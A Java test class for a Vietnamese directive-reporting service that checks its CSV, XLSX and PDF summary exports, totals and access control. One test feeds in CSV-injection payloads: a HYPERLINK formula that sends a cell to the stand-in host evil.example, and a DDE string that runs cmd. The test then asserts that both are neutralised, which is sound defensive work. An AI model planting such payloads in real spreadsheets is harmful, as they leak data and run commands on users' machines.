package vn.gov.directive.reporting;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;

import org.apache.http.HttpStatus;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.lowagie.text.pdf.PdfReader;
import com.lowagie.text.pdf.parser.PdfTextExtractor;

import io.quarkus.test.junit.QuarkusTest;
import io.smallrye.reactive.messaging.kafka.companion.KafkaCompanion;
import vn.gov.directive.events.Recipient;
import vn.gov.directive.events.Role;
import vn.gov.directive.testsupport.InjectKafkaCompanion;
import vn.gov.directive.testsupport.InjectKeycloak;
import vn.gov.directive.testsupport.KeycloakTokens;

/** Each export format of the scenario directive, parsed back and checked against its numbers. */
@QuarkusTest
class ExportTests {

    @InjectKafkaCompanion
    KafkaCompanion kafka;

    @InjectKeycloak
    KeycloakTokens keycloak;

    @BeforeEach
    void publishScenario() {
        Scenario.ensurePublished(kafka, keycloak);
    }

    private byte[] export(String format, String contentType) {
        return export(Scenario.DIRECTIVE, format, contentType);
    }

    private byte[] export(UUID directive, String format, String contentType) {
        return given().auth().oauth2(keycloak.accessToken("stttt"))
                .queryParam("format", format)
                .when().get("/api/v1/compliance/" + directive + "/export")
                .then().statusCode(HttpStatus.SC_OK)
                .contentType(containsString(contentType))
                .header("Content-Disposition", containsString("bao-cao-tong-hop-"))
                .extract().asByteArray();
    }

    @Test
    void csvIsUtf8WithBomAndHoldsTheTableAndTotals() {
        byte[] bytes = export("csv", "text/csv");
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<String> lines = new String(bytes, StandardCharsets.UTF_8).substring(1).lines().toList();
        assertThat(lines.get(0)).isEqualTo("BÁO CÁO TỔNG HỢP");
        assertThat(lines).contains("Số," + Scenario.NUMBER);
        List<String> headings = List.of(lines.get(4).split(","));
        assertThat(headings).startsWith("STT", "Mã đơn vị", "Tên đơn vị").contains("soTin", "soBai");
        String completed = lines.stream().filter(l -> l.contains(Scenario.COMPLETED)).findFirst().orElseThrow();
        assertThat(completed).contains(Scenario.COMPLETED_NAME, "Hoàn thành", "Chủ trì, thực hiện");
        String totals = lines.stream().filter(l -> l.startsWith(",Tổng cộng")).findFirst().orElseThrow();
        List<String> cells = List.of(totals.split(",", -1));
        assertThat(cells.get(headings.indexOf("soTin"))).isEqualTo("19");
        assertThat(cells.get(headings.indexOf("soBai"))).isEqualTo("5.5");
        assertThat(lines).contains("Số đơn vị nhận,6", "Đã báo cáo,2", "Quá hạn,1");
    }

    @Test
    void xlsxHoldsNumbersAsNumbers() throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export("xlsx", "spreadsheetml")))) {
            Sheet sheet = workbook.getSheetAt(0);
            DataFormatter text = new DataFormatter();
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("BÁO CÁO TỔNG HỢP");
            assertThat(sheet.getRow(1).getCell(1).getStringCellValue()).isEqualTo(Scenario.NUMBER);
            assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).isEqualTo(Scenario.SUBJECT);
            Row headings = sheet.getRow(5);
            List<String> names = new ArrayList<>();
            headings.forEach(cell -> names.add(text.formatCellValue(cell)));
            int soTin = names.indexOf("soTin");
            int soBai = names.indexOf("soBai");
            Row totals = null;
            int units = 0;
            for (int r = 6; r <= sheet.getLastRowNum(); r++) {
                Row row = sheet.getRow(r);
                if (row != null && "Tổng cộng".equals(text.formatCellValue(row.getCell(1)))) {
                    totals = row;
                    break;
                }
                units++;
            }
            assertThat(units).isEqualTo(6);
            assertThat(totals).isNotNull();
            assertThat(totals.getCell(soTin).getNumericCellValue()).isEqualTo(19.0);
            assertThat(totals.getCell(soBai).getNumericCellValue()).isEqualTo(5.5);
        }
    }

    /** OWASP CSV injection: a subject and a unit name that a spreadsheet would run as formulas. */
    @Test
    void formulasInTextAreNeutralisedInCsvAndPlainStringsInXlsx() throws Exception {
        String subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")";
        String unit = TestEvents.freshCode("CONGTHUC");
        UUID directive = UUID.randomUUID();
        TestEvents events = new TestEvents();
        events.unit(unit, "@SUM(1+1)*cmd|' /C calc'!A0", "DISTRICT_PC");
        Instant issuedAt = Instant.now().minus(Duration.ofHours(1));
        events.created(UUID.randomUUID(), directive, unit, Role.ACTION, null, "9/STTTT-VP", subject, issuedAt);
        events.issued(directive, Scenario.ISSUER, "9/STTTT-VP", subject, issuedAt, null, List.of(new Recipient(unit, Role.ACTION)));
        events.publish(kafka);
        String token = keycloak.accessToken("stttt");
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(60)).until(() -> given().auth().oauth2(token)
                .when().get("/api/v1/compliance/" + directive).then().extract().statusCode() == HttpStatus.SC_OK
                && given().auth().oauth2(token).when().get("/api/v1/compliance/" + directive).then().extract()
                        .jsonPath().getInt("delivered") == 1
                && given().auth().oauth2(token).when().get("/api/v1/compliance/" + directive).then().extract()
                        .jsonPath().getString("units[0].unitName") != null);

        String csv = new String(export(directive, "csv", "text/csv"), StandardCharsets.UTF_8);
        assertThat(csv).contains("Trích yếu,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\"")
                .contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\"").doesNotContain(",=HYPERLINK").doesNotContain(",@SUM");

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export(directive, "xlsx", "spreadsheetml")))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getRow(2).getCell(1).getCellType()).isEqualTo(CellType.STRING);
            assertThat(sheet.getRow(2).getCell(1).getStringCellValue()).isEqualTo(subject);
            sheet.forEach(row -> row.forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA)));
        }
    }

    @Test
    void pdfIsTheSummaryReportInVietnamese() throws Exception {
        byte[] pdf = export("pdf", "application/pdf");
        assertThat(new String(pdf, 0, 5, StandardCharsets.US_ASCII)).isEqualTo("%PDF-");
        try (PdfReader reader = new PdfReader(pdf)) {
            PdfTextExtractor extractor = new PdfTextExtractor(reader);
            StringBuilder text = new StringBuilder();
            for (int page = 1; page <= reader.getNumberOfPages(); page++) {
                text.append(extractor.getTextFromPage(page)).append('\n');
            }
            // a long name may wrap in its cell: compare with single spaces
            assertThat(text.toString().replaceAll("\\s+", " "))
                    .contains("BÁO CÁO TỔNG HỢP", "Số: " + Scenario.NUMBER, Scenario.SUBJECT, Scenario.COMPLETED_NAME,
                            "Tổng cộng", "Số đơn vị nhận: 6", "Quá hạn: 1")
                    .containsPattern("Tổng cộng[\\s\\S]*19[\\s\\S]*5\\.5|Tổng cộng[\\s\\S]*5\\.5[\\s\\S]*19");
            assertThat(reader.getPageN(1).toString()).isNotEmpty();
        }
        assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).contains("FontFile2"); // the TrueType font is embedded
    }

    @Test
    void unknownFormatIsABadRequestAndAUnitOfficerIsForbidden() {
        given().auth().oauth2(keycloak.accessToken("stttt"))
                .queryParam("format", "docx")
                .when().get("/api/v1/compliance/" + Scenario.DIRECTIVE + "/export")
                .then().statusCode(HttpStatus.SC_BAD_REQUEST)
                .contentType("application/problem+json");
        given().auth().oauth2(keycloak.accessToken("ubnd-halong"))
                .queryParam("format", "csv")
                .when().get("/api/v1/compliance/" + Scenario.DIRECTIVE + "/export")
                .then().statusCode(HttpStatus.SC_FORBIDDEN);
    }
}
